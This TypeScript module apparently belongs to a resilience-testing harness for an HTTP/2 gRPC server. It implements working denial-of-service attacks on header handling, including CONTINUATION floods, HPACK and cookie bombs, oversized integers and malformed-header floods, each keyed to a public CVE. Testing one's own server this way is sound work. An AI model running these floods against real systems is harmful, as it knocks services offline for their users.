/** Attacks on field blocks: HPACK, CONTINUATION, and what servers remember of heads. */
import type { Attack, AttackGroup, Target } from "../attack.ts";
import {
  callBlock,
  callFields,
  continuation,
  data,
  field,
  fieldBlock,
  getBlock,
  headers,
  hpackInteger,
  huffmanString,
  indexed,
  join,
  latin1,
  repeat,
  Setting,
  shortCodeText,
} from "../frames.ts";
import { envelope, FILE, GREETER, HASH, lengthDelimited } from "../messages.ts";
import { type Http2Options, Http2Wire, sleep, waitForEnd } from "../sockets.ts";

const SAY_HELLO = `${GREETER}/SayHello`;
const HELLO = envelope(lengthDelimited(1, "x"));

/** Sends requests with one block after the other, on connection after connection. */
async function floodBlocks(
  target: Target,
  makeFrames: (streamId: number) => Uint8Array,
  { perBurst = 16, ...options }: Http2Options & { readonly perBurst?: number } = {},
) {
  let [connections, blocks] = [0, 0];
  let goaway = "";
  while (performance.now() < target.endMs && connections < 100) {
    const http2 = await Http2Wire.connect(target, options).catch(() => undefined);
    connections++;
    if (http2 !== undefined) {
      const burst = () => join(...Array.from({ length: perBurst }, () => makeFrames(http2.takeStreamId())));
      blocks += perBurst * await http2.wire.flood(target, burst);
      goaway ||= http2.goaway;
      http2.close();
    }
  }
  return { notes: [`${connections} connections, ${blocks} blocks; ${goaway || "no GOAWAY"}`] };
}

/** Sends a block in one HEADERS frame and CONTINUATION frames without an end. */
const endlessBlock = (part: Uint8Array) => async (target: Target) => {
  let connections = 0;
  while (performance.now() < target.endMs && connections < 100) {
    const http2 = await Http2Wire.connect(target).catch(() => undefined);
    connections++;
    if (http2 !== undefined) {
      await http2.wire.send(headers(1, callBlock(SAY_HELLO), { endHeaders: false }));
      await http2.wire.flood(target, repeat(continuation(1, part), Math.max(1, 65_536 / (part.length + 9) | 0)));
      http2.close();
    }
  }
  return { notes: [`${connections} connections`] };
};

/** A call and fields of its own. */
const call = (streamId: number, ...blocks: Uint8Array[]) =>
  join(headers(streamId, join(callBlock(SAY_HELLO), ...blocks)), data(streamId, HELLO, true));

/** A block in frames of at most 16 KiB. */
function blockFrames(streamId: number, block: Uint8Array, endStream: boolean): Uint8Array {
  if (block.length <= 16_384) {
    return headers(streamId, block, { endStream });
  }
  const parts = [headers(streamId, block.subarray(0, 16_384), { endStream, endHeaders: false })];
  for (let offset = 16_384; offset < block.length; offset += 16_384) {
    parts.push(continuation(streamId, block.subarray(offset, offset + 16_384), offset + 16_384 >= block.length));
  }
  return join(...parts);
}

export const http2Headers: AttackGroup = {
  name: "http2-headers",
  attacks: [
    {
      name: "continuation-flood",
      title: "CONTINUATION frames of 16 KiB without an end (CVE-2024-27316)",
      run: endlessBlock(repeat(field("x-long", "x".repeat(1000)), 16)),
    },
    {
      name: "continuation-flood-small",
      title: "CONTINUATION frames of 1 byte without an end (CVE-2024-28182)",
      run: endlessBlock(new Uint8Array([0x82])),
    },
    {
      name: "continuation-flood-empty",
      title: "CONTINUATION frames of no bytes without an end (CVE-2023-45288)",
      run: endlessBlock(new Uint8Array(0)),
    },
    {
      name: "hpack-bomb",
      title: "One long field in the table, named 16,000 times in each block (CVE-2016-6581)",
      run: async (target) => {
        const http2 = await Http2Wire.connect(target);
        await http2.wire.send(call(http2.takeStreamId(), field("x-bomb", "x".repeat(3900), 0x40)));
        await http2.wire.flood(target, () => {
          const id = http2.takeStreamId();
          return headers(id, join(callBlock(SAY_HELLO), repeat(indexed(62), 16_000)), { endStream: true });
        });
        return { notes: [http2.goaway || "no GOAWAY"] };
      },
    },
    {
      name: "cookie-bomb",
      title: "Empty cookies by index, on 128 streams whose responses wait for a window (CVE-2026-49975)",
      run: async (target) => {
        let connections = 0;
        while (performance.now() < target.endMs && connections++ < 20) {
          const options = { takesResponses: false, settings: [[Setting.initialWindowSize, 0]] as const };
          const http2 = await Http2Wire.connect(target, options).catch(() => undefined);
          await http2?.wire.send(call(http2.takeStreamId(), field("cookie", "", 0x40)));
          for (let stream = 0; stream < 127 && http2 !== undefined && !http2.isClosed; stream++) {
            await http2.wire.send(call(http2.takeStreamId(), repeat(indexed(62), 15_000)));
          }
          await sleep(100);
        }
      },
    },
    {
      name: "empty-names",
      title: "Fields without a name (CVE-2019-9516)",
      run: (target) => floodBlocks(target, (id) => call(id, repeat(field("", ""), 100))),
    },
    {
      name: "huffman-churn",
      title: "Huffman-coded values that are new each time: they are decoded and enter the table (B.11)",
      run: (target) =>
        floodBlocks(target, (id) => {
          const value = join(new Uint8Array([0x40, 1, 0x78]), huffmanString(shortCodeText(8000)));
          return call(id, value, value, value);
        }, { perBurst: 4 }),
    },
    {
      name: "huffman-churn-refused",
      title: "The same in requests that are refused: HEADERS above the stream limit cost what they cost (B.11)",
      run: (target) => {
        const value = join(new Uint8Array([0x40, 1, 0x78]), huffmanString(shortCodeText(24_000)));
        return floodBlocks(target, (id) => headers(id, join(callBlock(`${HASH}/ShaStream`), value)), { perBurst: 4 });
      },
    },
    {
      name: "table-churn",
      title: "New fields for the table in each block, and heads that are new each time",
      run: (target) => {
        let index = 0;
        return floodBlocks(
          target,
          (id) => call(id, ...Array.from({ length: 60 }, () => field(`x-${index++}`, "y", 0x40))),
        );
      },
    },
    {
      name: "hpack-integers",
      title: "Integers of HPACK without an end, strings of 4 GiB (CVE-2023-33953)",
      run: (target) =>
        floodBlocks(target, (id) => {
          const endless = join(new Uint8Array([0xff]), new Uint8Array(1000).fill(0x80));
          const long = join(new Uint8Array([0x00]), hpackInteger(0xffff_ffff, 7), latin1("x"));
          return headers(id, join(callBlock(SAY_HELLO), id % 4 === 1 ? endless : long), { endStream: true });
        }),
    },
    {
      name: "new-paths",
      title: "A path and a host that are new each time: whatever is remembered of them is bounded",
      run: (target) => {
        let index = 0;
        return floodBlocks(target, (id) =>
          join(
            headers(id, fieldBlock([...callFields(`/edgewire.v1.Greeter/${"x".repeat(2000)}${index++}`)])),
            data(id, HELLO, true),
          ));
      },
    },
    {
      name: "new-site-paths",
      title: "GETs of pages that are not there, new each time",
      run: (target) => {
        let index = 0;
        return floodBlocks(
          target,
          (id) => headers(id, getBlock(`/no/${index++}/such/page?${"q=1&".repeat(200)}`), { endStream: true }),
        );
      },
    },
    {
      name: "malformed-heads",
      title: "Requests that are malformed in eight ways: each is a RST_STREAM (CVE-2025-8671)",
      run: (target) => {
        const blocks = [
          [["X-Upper", "x"]],
          [["connection", "close"]],
          [["te", "gzip"]],
          [["transfer-encoding", "chunked"]],
          [[":late", "x"]],
          [["content-length", "7"], ["content-length", "8"]],
          [["a", "b\r\nc: d"]],
          [["a\0", "b"]],
        ] as const;
        return floodBlocks(target, (id) => {
          const more = blocks[(id >> 1) % blocks.length]!;
          return headers(id, callBlock(SAY_HELLO, "application/grpc", more), { endStream: true });
        });
      },
    },
    {
      name: "large-heads",
      title: "Heads of 60 KiB on 128 streams that stay open, on 10 connections",
      run: async (target) => {
        const block = join(
          callBlock(`${HASH}/ShaStream`),
          ...Array.from({ length: 14 }, (_, index) => field(`x-${index}`, "v".repeat(4000))),
        );
        for (let connections = 0; connections < 10 && performance.now() < target.endMs; connections++) {
          const http2 = await Http2Wire.connect(target);
          for (let stream = 0; stream < 128; stream++) {
            await http2.wire.send(blockFrames(http2.takeStreamId(), block, false));
          }
        }
        await waitForEnd(target);
      },
    },
    {
      name: "long-metadata-echo",
      title: "Metadata of 60 KiB with each call, binary and not, to a method that fails",
      run: (target) => {
        const block = join(
          callBlock(`${FILE}/Stat`),
          ...Array.from({ length: 14 }, (_, index) => field(`x-${index}-bin`, "AAAA".repeat(1000))),
        );
        return floodBlocks(target, (id) => join(blockFrames(id, block, false), data(id, HELLO, true)), { perBurst: 4 });
      },
    },
  ] satisfies readonly Attack[],
};
